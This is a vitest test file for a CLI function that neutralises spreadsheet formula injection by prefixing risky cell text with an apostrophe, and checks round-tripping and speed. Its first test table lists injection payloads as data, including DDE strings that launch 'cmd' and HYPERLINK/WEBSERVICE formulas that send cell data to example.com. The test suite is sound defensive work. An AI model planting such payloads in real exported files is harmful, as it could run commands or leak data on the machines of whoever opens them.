import { describe, expect, test } from 'vitest';
import { guarded, isFormula, unguarded } from '../../../src/cli/output/formula.ts';
import fc from '../../helpers/property.ts';

describe('text that a spreadsheet runs', () => {
  test.each([
    '=1+1',
    '=',
    '=SUM(A1)',
    '  =1',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '＝1+1',
    "-'other sheet'!A1",
    '@SUM(1+1)',
    '\t@SUM(1+1)',
    '＠SUM(A1)',
    '@sum (A1)',
    '-SUM(1',
    '+HYPERLINK("https://example.com/?"&A1, "here") and more',
    "-2+3+cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "@cmd|'/C calc'!A0",
    "+'C:\\x.xla'!foo()",
    '+Book1.xls!Macro1()',
    '-1+Book1!f()',
    "+1+'x'!f()",
    '+[Book1.xlsx]Sheet1!A1',
    '+Sheet1!A:A',
    '-A:A',
    '+A1#',
    '+{1,2}',
    '+Table1[Col]',
    '+#REF!',
    "+'cmd'|'/C calc'!A0",
    '@Table1[Col]',
    '\t-A:A',
    '＋A：A',
    '- call: tomorrow!',
    '+HYPERLINK ("https://example.com/?"&A1)',
    '+A1&WEBSERVICE ("https://example.com/"&B1)',
  ])('%j gets an apostrophe', (text) => {
    expect(guarded(text)).toBe(`'${text}`);
    expect(unguarded(guarded(text))).toBe(text);
  });
});

describe('text that stays as it is', () => {
  test.each([
    '',
    ' ',
    'text',
    '+49 40 123456',
    '-2+3',
    '--5',
    '-10/12/2026',
    '+1-212-555-0100',
    '-A1',
    '+$B$2',
    '@A1',
    '-TRUE',
    '+491511234567',
    '+49 (0) 40 123456',
    '+1 (212) 555-0100',
    '@handle',
    '@handle_2',
    '@emma.example',
    '- dash note',
    '- call back, then (maybe) move',
    '-- two dashes',
    '- 2 tyres',
    '@team see you',
    '-5',
    '-5.25',
    '-5,25',
    '+5',
    '-1e3',
    '-5%',
    '-5 °C',
    '-',
    '+',
    '@',
    '\tindented',
    '\r\n',
    'a=1',
    '12-3',
    "it's",
    "'quoted'",
    "'",
  ])('%j', (text) => {
    expect(guarded(text)).toBe(text);
    expect(unguarded(text)).toBe(text);
  });
});

test('any text comes back as it was', () => {
  const part = fc.constantFrom(
    "'",
    '=',
    '+',
    '-',
    '@',
    '(',
    ')',
    'A1',
    '1',
    ' ',
    '\t',
    'SUM(',
    '|',
    '!',
    'x',
    '"',
    '%',
  );
  const text = fc.oneof(
    fc.string(),
    fc.array(part, { maxLength: 12 }).map((parts) => parts.join('')),
  );
  fc.assert(
    fc.property(text, (one) => {
      expect(unguarded(guarded(one))).toBe(one);
    }),
  );
  fc.assert(
    fc.property(text, (one) => {
      expect(isFormula(guarded(one))).toBe(false);
    }),
  );
});

test('a long text takes no more than its length', () => {
  expect(isFormula(`-${'1 '.repeat(200_000)}`)).toBe(false);
  expect(isFormula(`+${'a+ '.repeat(100_000)}`)).toBe(false);
});
